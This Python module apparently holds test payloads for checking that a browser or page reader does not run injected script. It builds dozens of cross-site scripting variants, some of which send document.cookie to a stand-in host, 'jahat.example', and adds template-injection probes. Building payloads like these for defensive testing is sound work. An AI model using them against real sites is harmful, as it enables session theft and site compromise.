"""What somebody may write into a page that we read, hoping that a browser of ours runs it."""

from __future__ import annotations

from itertools import product

_SCRIPTS = ("alert(1)", "fetch('//jahat.example/'+document.cookie)", "location='//jahat.example'")

_FRAMES = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script\n>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</option></select><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<img/src=x/onerror={}>",
    "<img src=`x` onerror=`{}`>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src onerror={}>",
    "<marquee onstart={}>",
    '<object data="javascript:{}">',
    '<embed src="javascript:{}">',
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<a href="javascript:{}">x</a>',
    '<a href="java&#10;script:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    '<button formaction="javascript:{}">x</button>',
    '<base href="//jahat.example/"><script>{}</script>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<link rel=stylesheet href="javascript:{}">',
    "<style>@import 'javascript:{}';</style>",
    '<div style="background:url(javascript:{})">x</div>',
    '" onmouseover="{}',
    "' onmouseover='{}",
    '" autofocus onfocus="{}" x="',
    "` onmouseover=`{}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\u2028<script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "\u003cscript\u003e{}\u003c/script\u003e",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><script>{}</script>">',
    "<!--><script>{}</script>-->",
    "<?xml ?><script>{}</script>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">{}</x:script>',
)

_TEMPLATES = (
    *("{{ 7*7 }}", "{% raw %}", "{{ visit.form_token }}", "{{ config }}", "${7*7}", "#{7*7}"),
    *("{0.__class__}", "{visit}", "%(visit)s", "{", "}", "{}", "{reason!r:>99999}"),
)
"""Of template languages, and of Python's own."""

PAYLOADS = (
    *(frame.replace("{}", script) for frame, script in product(_FRAMES, _SCRIPTS)),
    *(
        f"{left}{frame.replace('{}', 'alert(1)')}"
        for left in ("\\", "\t")
        for frame in _FRAMES[:12]
    ),
    *_TEMPLATES,
)
